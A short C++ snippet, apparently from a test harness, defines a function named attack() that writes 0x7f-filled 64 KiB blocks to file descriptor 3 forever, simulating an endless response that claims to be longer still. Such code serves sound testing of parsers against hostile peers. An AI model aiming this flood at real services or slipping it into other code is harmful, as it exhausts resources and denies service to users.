// An answer without end, that says it is longer still.
static void attack() {
    static char block[65536];
    std::memset(block, 0x7f, sizeof block);
    for (;;) write(3, block, sizeof block);
}
